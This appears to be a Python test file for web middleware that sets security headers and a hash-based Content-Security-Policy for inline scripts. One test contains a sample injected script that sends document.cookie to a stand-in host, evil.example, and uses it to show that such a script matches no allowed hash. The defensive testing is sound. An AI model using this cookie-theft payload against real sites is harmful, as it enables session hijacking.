"""The security headers serve.py puts on every response: the policy admits the server's own
inline scripts by hash (plain or gzipped pages) and nothing else."""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib

from components.http_headers import SecurityHeaders, inline_script_hashes, policy

PAGE = b'<html><script>window.prerenderReady = false</script><script src="./x.js"></script></html>'
OWN = base64.b64encode(hashlib.sha256(b"window.prerenderReady = false").digest()).decode()


def _serve(body: bytes, content_type: bytes, encoding: bytes | None = None, scope_type: str = "http"):
    async def app(scope, receive, send):
        headers = [(b"content-type", content_type), (b"content-length", str(len(body)).encode())]
        if encoding:
            headers.append((b"content-encoding", encoding))
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body[:10], "more_body": True})
        await send({"type": "http.response.body", "body": body[10:]})

    sent = []

    async def send(message):
        sent.append(message)

    scope = {"type": scope_type, "headers": [(b"host", b"datablik.example:8501")]}
    asyncio.run(SecurityHeaders(app)(scope, None, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    return dict(start["headers"]), b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


def test_an_html_page_gets_a_policy_with_the_hash_of_its_own_inline_script():
    headers, body = _serve(PAGE, b"text/html; charset=utf-8")
    csp = headers[b"content-security-policy"].decode()
    assert f"'sha256-{OWN}'" in csp and body == PAGE and headers[b"content-length"] == str(len(PAGE)).encode()
    scripts = csp.split("script-src ")[1].split(";")[0]
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
    assert "connect-src 'self' ws://datablik.example:8501 wss://datablik.example:8501" in csp
    assert headers[b"x-content-type-options"] == b"nosniff" and headers[b"x-frame-options"] == b"SAMEORIGIN"


def test_a_gzipped_page_is_hashed_as_sent_and_passed_on_unchanged():
    packed = gzip.compress(PAGE)
    headers, body = _serve(packed, b"text/html", b"gzip")
    assert f"'sha256-{OWN}'" in headers[b"content-security-policy"].decode() and body == packed


def test_other_responses_get_the_policy_without_any_script_hash():
    headers, body = _serve(b'{"ok": true}', b"application/json")
    assert headers[b"content-security-policy"].decode() == policy("datablik.example:8501", [])
    assert body == b'{"ok": true}'


def test_a_script_a_user_typed_would_match_no_hash():
    assert inline_script_hashes(b"<script>fetch('//evil.example/'+document.cookie)</script>") != [OWN]
    for directive in (
        "img-src 'self' data: blob:",
        "form-action 'self'",
        "object-src 'none'",
        "frame-ancestors 'self'",
        "font-src 'self' data:",
    ):
        assert directive in policy("h", [])
